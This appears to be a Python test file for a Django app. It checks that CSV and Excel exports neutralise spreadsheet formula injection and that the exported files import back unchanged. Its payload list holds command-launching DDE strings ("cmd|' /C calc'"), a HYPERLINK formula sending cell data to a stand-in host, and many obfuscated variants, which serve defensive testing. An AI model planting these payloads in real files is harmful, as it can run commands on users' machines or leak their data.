"""No cell of an export is taken for a formula, and what comes back is what was there before."""

import csv
from io import BytesIO, StringIO
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from accounts.models import Member
from achievements.exporting import unescaped, write_table
from achievements.models import Achievement, ImportRefusal, ImportRun
from achievements.services.import_runs import run_import, upload_import
from achievements.services.office import tag_listing
from achievements.services.text import clean_text
from tests import factories as make

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₊"]
FORMULAS = [
    *(f"{start}1+cmd|' /C calc'!A0" for start in STARTS),
    *('=HYPERLINK("http://192.0.2.1/?"&A1,"Click")', "@SUM(1)*cmd", "-2+3", "+1", "=1;=2", "=1,=2"),
    *("'=1", "''=1+1", "'-5 °C", "\u200b=1", "\u00a0+1", "\u3000＝1", "\ufeff=1"),
    *(
        "a;=1",
        "a; '=1",
        "a|=1",
        "a\t=1",
        "a\n=1",
        'a;"=1"',
        "a;\t'=1",
        "a;'\t\"'＝1",
        "a;b=1",
        ";;-1",
    ),
    *("=1\n=2", "'quoted' stays", "a=1", "负=1", '"=1"', "%0A=1", "|=1"),
]


def _cells(text: str) -> list[str]:
    """The cells of a CSV file, also as a spreadsheet of another country takes it apart."""
    return [
        cell
        for separator in ",;|\t"
        for row in csv.reader(StringIO(text), delimiter=separator)
        for cell in row
    ]


def _may_run(cell: str) -> bool:
    """Whether a program may take it for a formula, read as widely as any does."""
    bare = cell.lstrip(" \u00a0\u3000\u200b\ufeff")
    signs = tuple("\t\r\n=+-@＝＋－＠﹦﹢﹣﹫⁼₊")
    return cell.startswith(signs) or bare.startswith(signs)


@pytest.fixture
def owner(settings: Any, tmp_path: Path) -> Member:
    settings.MEDIA_ROOT = tmp_path
    return make.MemberFactory(organisation=make.OrganisationFactory(), role="owner")


def _uploaded(owner: Member, data: bytes) -> ImportRun:
    """A file, checked and imported."""
    run = upload_import(
        by=owner.user,
        kind="achievement",
        organisation=owner.organisation,
        file=SimpleUploadedFile("a.bin", data),
        duplicates=ImportRun.Duplicates.CREATE,
        confirm=True,
    )
    run_import(run.pk)
    run.refresh_from_db()
    return run


@pytest.mark.parametrize("door", ["", "/api/v1"])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_portfolio_holds_no_formula_and_is_read_back_as_it_was(owner: Member, form: str, door: str):
    own = {"organisation": owner.organisation, "title_zh": ""}
    made = [
        make.AchievementFactory(title_en=f"{text} {n}", **own) for n, text in enumerate(FORMULAS)
    ]
    for listing, text in zip(made, FORMULAS, strict=True):
        tag_listing(listing, by=owner.user, add=[text.replace(",", "")[:20]])
    titles = Achievement.objects.values_list("title_en", flat=True)
    before = {" ".join(clean_text(title).split()) for title in titles}  # as a form would keep it
    client = Client()
    client.force_login(owner.user)

    query = "columns=tags&columns=assignee"
    data = client.get(f"{door}/portfolio/export/{form}/?{query}").content

    if form == "csv":
        cells = _cells(data.decode("utf-8-sig"))
    else:
        rows = load_workbook(BytesIO(data)).active.iter_rows()
        found = [cell for row in rows for cell in row]
        assert {cell.data_type for cell in found if cell.value is not None} == {"s"}
        cells = [cell.value for cell in found if cell.value is not None]
    assert [cell for cell in cells if _may_run(cell)] == []
    assert len(cells) > 2 * len(FORMULAS)

    Achievement.objects.all().delete()
    run = _uploaded(owner, data)
    assert (run.report["created"], run.report["problems"]) == (len(FORMULAS), [])
    after = set(Achievement.objects.values_list("title_en", "title_zh"))
    assert {english or chinese for english, chinese in after} == before


def test_text_is_read_back_as_it_was_wherever_a_formula_could_begin():
    texts = ["".join(signs) for n in range(6) for signs in product("a;'=\"\t", repeat=n)]
    for text in [*FORMULAS, *texts]:
        (_header, (cell,)) = csv.reader(StringIO(write_table(["x"], [[text]], "csv").decode()))
        assert unescaped(cell) == text


def test_refused_rows_hold_no_formula_and_come_back_the_same(owner: Member):
    buffer = StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["title", "trl", "price_min", "=note"])
    writer.writerows([f"{text} {n}", "99", "-5", text] for n, text in enumerate(FORMULAS))
    first = _uploaded(owner, buffer.getvalue().encode())
    client = Client()
    client.force_login(owner.user)

    data = client.get(f"/imports/{first.pk}/refused/").content
    text = data.decode("utf-8-sig")
    assert [cell for cell in _cells(text) if _may_run(cell)] == []
    assert len(list(csv.reader(StringIO(text)))) == 1 + len(FORMULAS)

    second = _uploaded(owner, data)
    assert second.report["bad"] == first.report["bad"] == len(FORMULAS)
    reasons = [
        [
            [problem["code"] for problem in row.problems]
            for row in ImportRefusal.objects.filter(run=run)
        ]
        for run in (first, second)
    ]
    assert reasons[0] == reasons[1]
